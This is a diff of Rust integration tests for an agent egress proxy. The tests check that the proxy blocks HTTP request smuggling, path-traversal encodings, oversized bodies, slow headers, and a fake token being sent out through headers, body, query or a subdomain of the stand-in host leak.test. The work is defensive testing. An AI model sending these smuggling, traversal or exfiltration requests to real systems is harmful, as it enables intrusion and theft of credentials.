@@ -286,3 +286,260 @@ allow_private = true
     let refused = h.cli(&["audit", "query", "--kind", "egress_connection", "--json"]);
     assert!(refused.lines().any(|l| l.contains("lethal-trifecta") && l.contains("\"deny\"")), "{refused}");
 }
+
+/// A plain TCP web server on loopback that answers every request with `ok`
+/// and records every byte it receives; its port and the record.
+async fn recording_upstream() -> (u16, std::sync::Arc<std::sync::Mutex<String>>) {
+    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = l.local_addr().unwrap().port();
+    let seen = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
+    let record = seen.clone();
+    tokio::spawn(async move {
+        while let Ok((mut s, _)) = l.accept().await {
+            let record = record.clone();
+            tokio::spawn(async move {
+                let mut got = Vec::new();
+                let mut buf = [0u8; 4096];
+                while !got.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match s.read(&mut buf).await {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => got.extend_from_slice(&buf[..n]),
+                    }
+                }
+                let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok").await;
+                // Whatever else arrives (a smuggled second request) is recorded too.
+                while let Ok(Ok(n)) = tokio::time::timeout(Duration::from_millis(300), s.read(&mut buf)).await {
+                    if n == 0 {
+                        break;
+                    }
+                    got.extend_from_slice(&buf[..n]);
+                }
+                record.lock().unwrap().push_str(&String::from_utf8_lossy(&got));
+            });
+        }
+    });
+    (port, seen)
+}
+
+/// Send raw bytes to `port` and read the answer to its end: (status, text).
+async fn raw(port: u16, bytes: &[u8]) -> (u16, String) {
+    let mut s = tokio::net::TcpStream::connect(("127.0.0.1", port)).await.unwrap();
+    s.write_all(bytes).await.unwrap();
+    let mut got = Vec::new();
+    let _ = tokio::time::timeout(Duration::from_secs(20), s.read_to_end(&mut got)).await.expect("the proxy answers");
+    let text = String::from_utf8_lossy(&got).to_string();
+    let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("no status in {text:?}"));
+    (status, text)
+}
+
+/// An egress token for a newly registered agent.
+async fn egress_token(h: &Harness, name: &str) -> (String, String) {
+    let (id, key) = h.register(name, "onboarding/customer_lookup", 1, None);
+    loop {
+        match h.client(&id, &key).fetch_token_for(&format!("{}/egress", h.base), None).await {
+            Ok(t) => break (id, t.access_token),
+            Err(e) if e.to_string().contains("unknown agent") => tokio::time::sleep(Duration::from_millis(20)).await,
+            Err(e) => panic!("{e}"),
+        }
+    }
+}
+
+fn egress_events(h: &Harness) -> Vec<Value> {
+    h.cli(&["audit", "export"])
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap()["event"].clone())
+        .filter(|e| e["kind"] == "egress_connection")
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn smuggled_requests_and_ambiguous_paths_never_reach_the_upstream() {
+    let (up, seen) = recording_upstream().await;
+    let proxy_port = free_port();
+    let extra = format!(
+        r#"[egress]
+listen = "127.0.0.1:{proxy_port}"
+max_body_bytes = 4096
+[[egress.allow]]
+agent = "fetcher"
+host = "127.0.0.1"
+port = {up}
+path_prefix = "/v1/"
+allow_private = true
+"#
+    );
+    let h = Harness::start_with("", &extra, &[]);
+    let (_, token) = egress_token(&h, "fetcher").await;
+    let auth = format!("Host: 127.0.0.1:{up}\r\nProxy-Authorization: Bearer {token}\r\n");
+    let smuggled = "GET /admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
+
+    // What the upstream gets is rebuilt from the checked pieces: one request,
+    // no proxy credentials or hop-by-hop headers, Connection: close.
+    let ok = format!(
+        "POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}Proxy-Connection: keep-alive\r\nConnection: keep-alive, X-Hop\r\nX-Hop: 1\r\nX-Kept: yes\r\nContent-Length: 2\r\n\r\nhi{smuggled}"
+    );
+    let (status, text) = raw(proxy_port, ok.as_bytes()).await;
+    assert_eq!(status, 200, "{text}");
+    // The upstream records a connection once the proxy closes it.
+    for _ in 0..250 {
+        if !seen.lock().unwrap().is_empty() {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    let upstream = seen.lock().unwrap().clone();
+    assert_eq!(
+        upstream,
+        format!("POST /v1/echo HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nX-Kept: yes\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi"),
+        "bytes after the declared body are not forwarded"
+    );
+
+    let variants = [
+        ("a bare LF carrying Content-Length", format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}X-A: a\nContent-Length: 41\r\n\r\n{smuggled}")),
+        ("obs-fold", format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}X-A: a\r\n Content-Length: 41\r\n\r\n{smuggled}")),
+        ("duplicate Content-Length", format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}Content-Length: 0\r\nContent-Length: 41\r\n\r\n{smuggled}")),
+        (
+            "Content-Length and Transfer-Encoding",
+            format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}Content-Length: 41\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"),
+        ),
+        ("Transfer-Encoding: chunked", format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}")),
+        (
+            "a Host of another destination",
+            format!("GET http://127.0.0.1:{up}/v1/data HTTP/1.1\r\nHost: admin.internal\r\nProxy-Authorization: Bearer {token}\r\n\r\n"),
+        ),
+    ];
+    for (what, req) in &variants {
+        let (status, text) = raw(proxy_port, req.as_bytes()).await;
+        assert_eq!(status, 400, "{what}: {text}");
+    }
+    for (what, path) in [
+        ("..;", "/v1/..;/admin"),
+        ("overlong UTF-8 dots", "/v1/%c0%ae%c0%ae/admin"),
+        ("full-width dots", "/v1/%ef%bc%8e%ef%bc%8e/admin"),
+        ("double-encoded dots", "/v1/%252e%252e/admin"),
+        ("upper-case encoded dots", "/v1/%2E%2E/admin"),
+    ] {
+        let req = format!("GET http://127.0.0.1:{up}{path} HTTP/1.1\r\n{auth}\r\n");
+        let (status, text) = raw(proxy_port, req.as_bytes()).await;
+        assert_eq!(status, 400, "{what}: {text}");
+        assert!(text.contains("send it in one plain spelling"), "{text}");
+    }
+    let big = format!("POST http://127.0.0.1:{up}/v1/echo HTTP/1.1\r\n{auth}Content-Length: 5000\r\n\r\n{}", "x".repeat(5000));
+    let (status, text) = raw(proxy_port, big.as_bytes()).await;
+    assert_eq!(status, 413, "{text}");
+    assert!(text.contains("egress.max_body_bytes"), "{text}");
+
+    tokio::time::sleep(Duration::from_millis(400)).await;
+    assert_eq!(seen.lock().unwrap().matches(" HTTP/1.1\r\n").count(), 1, "only the first, valid request reached the upstream");
+    let refused = egress_events(&h).into_iter().filter(|e| e["decision"] == "deny").count();
+    assert_eq!(refused, 6, "ambiguous paths and the oversized body are audited refusals");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn secrets_leave_through_no_part_of_a_request() {
+    let (up, seen) = recording_upstream().await;
+    let proxy_port = free_port();
+    let extra = format!(
+        r#"[egress]
+listen = "127.0.0.1:{proxy_port}"
+[[egress.allow]]
+agent = "*"
+host = "127.0.0.1"
+port = {up}
+allow_private = true
+[[egress.allow]]
+agent = "*"
+host = "*.leak.test"
+port = {up}
+"#
+    );
+    let h = Harness::start_with("", &extra, &[]);
+    let secret = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
+    let url = format!("http://127.0.0.1:{up}/v1/data");
+    let cases = [
+        ("in-header", format!("GET {url} HTTP/1.1\r\nX-Api-Key: {secret}\r\n")),
+        ("in-body", format!("POST {url} HTTP/1.1\r\nContent-Length: {}\r\n", secret.len() + 6)),
+        ("in-query", format!("GET {url}?q=%67hp_{} HTTP/1.1\r\n", &secret[4..])),
+        ("in-host", format!("GET http://{secret}.leak.test:{up}/ HTTP/1.1\r\n")),
+        ("encoded-host", format!("GET http://4a7f3c9e1b2d8f6a0c5e7b9d.leak.test:{up}/ HTTP/1.1\r\n")),
+    ];
+    for (name, head) in &cases {
+        let (id, token) = egress_token(&h, name).await;
+        let body = if *name == "in-body" { format!("token={secret}") } else { String::new() };
+        let req = format!("{head}Proxy-Authorization: Bearer {token}\r\n\r\n{body}");
+        let (status, text) = raw(proxy_port, req.as_bytes()).await;
+        assert_eq!(status, 403, "{name}: {text}");
+        assert!(text.contains("refused by policy"), "{name}: {text}");
+        let record = egress_events(&h).into_iter().find(|e| e["agent"] == id).unwrap();
+        assert_eq!(record["decision"], "deny", "{record}");
+        assert!(record["policies"].as_array().unwrap().iter().any(|p| p == "credential-exfiltration"), "{name}: {record}");
+        assert!(record["findings"].as_array().unwrap().iter().any(|f| f.as_str().unwrap().starts_with("args.secrets.")), "{name}: {record}");
+    }
+    let host_record =
+        egress_events(&h).into_iter().find(|e| e["reason"].as_str().is_some_and(|r| r.contains("refused")) && e["tool"] == format!("egress/*.leak.test:{up}"));
+    assert!(host_record.is_some(), "a host that is data is recorded by the rule it matched");
+    let audit = h.cli(&["audit", "export"]);
+    for value in ["a1B2c3D4e5F6", "a1b2c3d4e5f6", "4a7f3c9e1b2d8f6a0c5e7b9d"] {
+        assert!(!audit.contains(value), "{value} is in the audit log");
+    }
+    assert!(seen.lock().unwrap().is_empty(), "nothing reached the upstream");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn slow_heads_are_cut_off_and_connections_are_capped() {
+    let proxy_port = free_port();
+    let extra = format!(
+        r#"[egress]
+listen = "127.0.0.1:{proxy_port}"
+max_connections = 2
+head_timeout_secs = 1
+"#
+    );
+    let h = Harness::start_with("", &extra, &[]);
+    // A trickles a head a byte at a time, B sends nothing: both hold a slot.
+    let connect = |port: u16| tokio::net::TcpStream::connect(("127.0.0.1", port));
+    let trickle = |mut s: tokio::net::TcpStream, head: &'static [u8]| async move {
+        let mut sent = 0;
+        let mut got = Vec::new();
+        for b in head.iter().cycle().take(120) {
+            if s.write_all(&[*b]).await.is_err() {
+                break;
+            }
+            sent += 1;
+            let mut buf = [0u8; 1024];
+            match tokio::time::timeout(Duration::from_millis(250), s.read(&mut buf)).await {
+                Ok(Ok(0)) | Ok(Err(_)) => break,
+                Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
+                Err(_) => {}
+            }
+        }
+        (sent, String::from_utf8_lossy(&got).to_string())
+    };
+    let a = connect(proxy_port).await.unwrap();
+    let b = connect(proxy_port).await.unwrap();
+    let a = tokio::spawn(trickle(a, b"GET http://127.0.0.1:9/v1/data HTTP/1.1\r\nX-Pad: "));
+    // Over the cap: refused at once, before any byte of a head.
+    let (status, text) = raw(proxy_port, b"").await;
+    assert_eq!(status, 503, "{text}");
+    assert!(text.contains("egress.max_connections"), "{text}");
+    let (sent, answer) = a.await.unwrap();
+    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
+    assert!(sent < 120, "the head was cut off while bytes still trickled in");
+    drop(b);
+    // Slots come back once the slow connections are cut off.
+    let mut status = 503;
+    for _ in 0..100 {
+        status = raw(proxy_port, b"GET / HTTP/1.1\r\n\r\n").await.0;
+        if status != 503 {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    assert_eq!(status, 400);
+
+    // The main listener bounds the time to receive a head too.
+    let main = h.base.trim_start_matches("http://").to_string();
+    let main_port: u16 = main.rsplit(':').next().unwrap().parse().unwrap();
+    let (sent, answer) = trickle(connect(main_port).await.unwrap(), b"POST /mcp HTTP/1.1\r\nX-Pad: ").await;
+    assert!(sent < 120, "the main listener still reads a head after {sent} trickled bytes: {answer}");
+}
